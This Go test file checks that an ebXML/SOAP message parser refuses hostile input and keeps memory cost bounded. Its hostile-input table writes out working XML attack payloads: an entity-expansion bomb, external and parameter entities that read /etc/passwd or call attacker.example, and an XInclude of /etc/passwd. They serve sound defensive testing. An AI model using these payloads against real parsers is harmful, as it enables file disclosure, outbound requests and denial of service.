package ebxml_test

import (
	"runtime"
	"strings"
	"testing"

	"github.com/wardsmsp/ward/internal/ebxml"
)

// goodMessages are what hostile ones are made of.
func goodMessages() map[string]struct{ contentType, body string } {
	return map[string]struct{ contentType, body string }{
		"a reply":            {multipartType, reply()},
		"an acknowledgement": {"text/xml", envelope(takenHeader+acknowledgment, "")},
		"an error message":   {"text/xml; charset=utf-8", envelope(errorHeader+errorList("Error", unknownCPA), "")},
		"a fault":            {multipartType, multipart(envelopeFields + "\r\n" + envelope("", fault))},
	}
}

func instead(old, with string) func(string) string {
	return func(doc string) string { return strings.Replace(doc, old, with, 1) }
}

// bomb is a document type that declares entities of entities.
const bomb = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>`

// hostileChanges change a good message, whichever it is. Some leave it as it was.
var hostileChanges = []struct {
	name     string
	change   func(string) string
	believed bool
}{
	{"as it is", func(doc string) string { return doc }, true},
	{"padded", func(doc string) string { return doc + strings.Repeat("\r\n", 1000) }, true},
	{"a schema to fetch", instead("<soap:Body", `<soap:Body xsi:schemaLocation="urn:x http://attacker.example/x.xsd"`), true},
	{"XInclude in the header", instead("<soap:Header>", `<soap:Header><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>`), true},
	{"another header within a block", instead("<soap:Header>", `<soap:Header><x>`+takenHeader+acknowledgment+`</x>`), true},

	{"empty", func(string) string { return "" }, false},
	{"white space", func(string) string { return " \r\n" }, false},
	{"HTML", func(string) string { return "<html><body>Bad gateway</body></html>" }, false},
	{"an entity bomb", instead("?>\n<soap:Envelope", "?>"+bomb+"<soap:Envelope"), false},
	{"an external entity", instead("?>\n<soap:Envelope", `?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><soap:Envelope`), false},
	{"a parameter entity", instead("?>\n<soap:Envelope", `?><!DOCTYPE x [<!ENTITY % a SYSTEM "http://attacker.example/">%a;]><soap:Envelope`), false},
	{"a processing instruction", instead("<soap:Body>", "<soap:Body><?x y?>"), false},
	{"deep nesting", instead("<soap:Header>", "<soap:Header>"+strings.Repeat("<x>", 10_000)+strings.Repeat("</x>", 10_000)), false},
	{"many elements", instead("<soap:Header>", "<soap:Header>"+strings.Repeat("<x/>", 20_000)), false},
	{"an attribute flood", instead("<soap:Body>", "<soap:Body"+strings.Repeat(` x="1"`, 1000)+">"), false},
	{"a huge name", instead("<soap:Header>", "<soap:Header><"+strings.Repeat("x", 100_000)+"/>"), false},
	{"a huge text", instead("<soap:Header>", "<soap:Header><x>"+strings.Repeat("x", 100_000)+"</x>"), false},
	{"a huge envelope", instead("<soap:Header>", "<soap:Header>"+strings.Repeat("<!--"+strings.Repeat("x", 1000)+"-->", 300)), false},
	{"UTF-16 declared", instead("encoding='UTF-8'?>\n<soap", "encoding='UTF-16'?>\n<soap"), false},
	{"not UTF-8", instead("<soap:Header>", "<soap:Header>\xff"), false},
	{"a NUL after it", func(doc string) string { return doc + "\x00" }, false},
	{"XML 1.1", instead(`<?xml version='1.0' encoding='UTF-8'?>`+"\n<soap", `<?xml version='1.1' encoding='UTF-8'?>`+"\n<soap"), false},
	{"an undeclared prefix", instead("<soap:Header>", "<soap:Header><p:x/>"), false},
	{"SOAP 1.2", instead("http://schemas.xmlsoap.org/soap/envelope/", "http://www.w3.org/2003/05/soap-envelope"), false},
	{"a second message after it", func(doc string) string { return doc + doc }, false},
	{"two Bodies", instead("</soap:Body>", "</soap:Body><soap:Body/>"), false},
	{"two Headers", instead("<soap:Header>", "<soap:Header/><soap:Header>"), false},
	{"an acknowledgement in the body", instead("<soap:Body>", "<soap:Body>"+acknowledgment), false},
	{"a question in the body", instead("</soap:Body>", "<eb:StatusRequest/></soap:Body>"), false},
	{"two headers", instead("<soap:Header>", "<soap:Header>"+businessHeader+businessHeader), false},
	{"a block to be understood", instead("<soap:Header>", `<soap:Header><x soap:mustUnderstand="1"/>`), false},
}

// WRD-SPN-12, WRD-SEC-02, WRD-SEC-04: a hostile message is the message that it was, or
// it is refused with a text that is fixed; it never turns into another.
func TestHostileMessages(t *testing.T) {
	for name, good := range goodMessages() {
		want, err := ebxml.Read(good.contentType, good.body, limits)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, c := range hostileChanges {
			changed := c.change(good.body)
			got, err := ebxml.Read(good.contentType, changed, limits)
			if (err == nil) != c.believed {
				t.Errorf("%s, %s: a %s, %v", name, c.name, got.Kind, err)
			}
			if err == nil && (got.Kind != want.Kind || got.Header != want.Header || got.Kind == ebxml.Business && got.Payload != want.Payload) {
				t.Errorf("%s, %s: turned into a %s", name, c.name, got.Kind)
			}
			if err != nil && (got.Kind != 0 || got.Payload != "" || got.Errors != nil) {
				t.Errorf("%s, %s: something of a message that was refused is told", name, c.name)
			}
		}
	}
}

// Refusals are texts of Ward's own: nothing that a sender writes reaches a log by them.
func TestRefusalsQuoteNothing(t *testing.T) {
	const secret = "Fennimore"
	for _, place := range []string{"<soap:Header>", "<soap:Body>", "<eb:CPAId>", "<eb:Timestamp>", "<eb:RefToMessageId>", "<eb:MessageHeader ", "Content-Id: ", "Content-Type: ", "8bit", "xlink:href=\"", "<eb:Manifest "} {
		for _, hidden := range []string{secret, "<" + secret + ">", secret + "=\"", "&" + secret + ";", secret + "\x00"} {
			_, err := ebxml.Read(multipartType, strings.Replace(reply(), place, place+hidden, 1), limits)
			if err != nil && strings.Contains(err.Error(), secret) {
				t.Errorf("after %s: %v", place, err)
			}
		}
	}
	_, err := ebxml.Read("multipart/related; "+secret, reply(), limits)
	if err == nil || strings.Contains(err.Error(), secret) {
		t.Errorf("in the Content-Type: %v", err)
	}
}

// WRD-SPN-12, H-17: a message cut short at any byte is refused, until only what ends
// its last line is missing.
func TestTruncatedMessages(t *testing.T) {
	for name, good := range goodMessages() {
		for n := range len(strings.TrimRight(good.body, "\r\n")) {
			got, err := ebxml.Read(good.contentType, good.body[:n], limits)
			if err == nil {
				t.Fatalf("%s, after %d of %d bytes: a %s", name, n, len(good.body), got.Kind)
			}
		}
	}
}

// WRD-SEC-01: what a message costs in memory grows with its length and with nothing
// else.
func TestHostileMessagesCostWhatTheyWeigh(t *testing.T) {
	cost := func(name, contentType, body string) {
		var start, end runtime.MemStats
		runtime.ReadMemStats(&start)
		ebxml.Read(contentType, body, limits)
		runtime.ReadMemStats(&end)
		spent := end.TotalAlloc - start.TotalAlloc
		if most := uint64(4*len(body) + 512<<10); spent > most {
			t.Errorf("%s: %d bytes of memory for %d of message, want at most %d", name, spent, len(body), most)
		}
	}
	for name, good := range goodMessages() {
		for _, c := range hostileChanges {
			cost(name+", "+c.name, good.contentType, c.change(good.body))
		}
	}
	half := strings.Repeat("x", limits.Bytes/2)
	cost("many parts", multipartType, multipart(strings.Split(half, "x")...))
	cost("many delimiters", multipartType, strings.Repeat("----=_MIME-Boundary\r\n", 20_000))
	cost("one huge field", multipartType, multipart("X: "+half))
	cost("a folded field", multipartType, multipart("X: x"+strings.Repeat("\r\n ", 100_000)))
	cost("many fields", multipartType, multipart(strings.Repeat("X: x\r\n", 100_000)))
	cost("a document in base64", multipartType, multipart(envelopeFields+"\r\n"+envelope(businessHeader, manifest), strings.Replace(documentFields, "8bit", "base64", 1)+"\r\n"+half))
	cost("a huge Content-Type", "multipart/related; "+strings.Repeat("x=y;", 100_000), reply())
}
